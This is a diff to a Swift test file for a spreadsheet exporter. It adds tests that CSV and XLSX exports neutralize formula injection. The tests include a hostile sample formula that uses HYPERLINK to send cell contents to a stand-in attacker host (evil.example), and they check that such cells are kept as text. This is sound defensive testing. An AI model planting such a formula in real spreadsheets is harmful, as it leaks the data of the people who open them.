@@ -14,6 +14,7 @@ struct ExportTests {
         var widths: [String: Double]
         var header_bold: Bool
         var rows: [[Value?]]
+        var formulas: Int
     }
 
     enum Value: Decodable, Equatable {
@@ -72,6 +73,37 @@ struct ExportTests {
         #expect(csv.hasPrefix("\u{FEFF}序号,工作任务,牵头单位"))
         #expect(csv.contains("\r\n1,\"新建\"\"口袋公园\"\"60处, 绿道40公里\",区园林局,,"))
         #expect(csv.hasSuffix("\r\n"))
+    }
+
+    static let hostile = #"=HYPERLINK("http://evil.example/?"&A2,"详情")"#
+
+    @Test("a text a spreadsheet would run as a formula gets a ' in front in every CSV; numbers stay numbers")
+    func csvFormulaInjection() {
+        for start in ["=", "+", "-", "@", "\t", "\r"] {
+            #expect(CSVDocument.neutralized(start + "1+1") == "'" + start + "1+1", "\(start)")
+        }
+        #expect(CSVDocument.neutralized("-3.5") == "-3.5")
+        #expect(CSVDocument.neutralized("+12") == "+12")
+        #expect(CSVDocument.neutralized("已开工") == "已开工")
+        let table = AllocationTable(title: "t", rows: [[.number(-1), .text(Self.hostile), .text("@区园林局"), .text(""), .text(""), .text(""), .text(""), .text("")]])
+        let csv = table.csv()
+        #expect(csv.contains(#"-1,"'=HYPERLINK(""http://evil.example/?""&A2,""详情"")",'@区园林局"#))
+        #expect(CSVDocument.row(["=1+1", "x"]) == "'=1+1,x\r\n")
+    }
+
+    @Test("a cell written like a formula stays text in the XLSX, as openpyxl reads it", arguments: TestEngine.available)
+    func xlsxNeverHoldsFormulas(_ engine: TestEngine) async throws {
+        let test = try await TestStore.make(engine)
+        let url = FileManager.default.temporaryDirectory.appendingPathComponent("分工方案-\(UUID().uuidString).xlsx")
+        let table = AllocationTable(
+            title: "t", rows: [[.number(-1), .text(Self.hostile), .text("@区园林局"), .text("+1"), .text("-2"), .text(""), .text(""), .text("")]])
+        try await test.store.exportAllocationXLSX(table, to: url)
+        await test.finish()
+        let result = try Self.run(["python3", Self.reader, url.path])
+        try #require(result.status == 0, "openpyxl could not read the workbook")
+        let workbook = try JSONDecoder().decode(Workbook.self, from: Data(result.output.utf8))
+        #expect(workbook.formulas == 0)
+        #expect(workbook.rows[1] == [.number(-1), .text(Self.hostile), .text("@区园林局"), .text("+1"), .text("-2"), nil, nil, nil])
     }
 
     static func run(_ arguments: [String]) throws -> (status: Int32, output: String) {
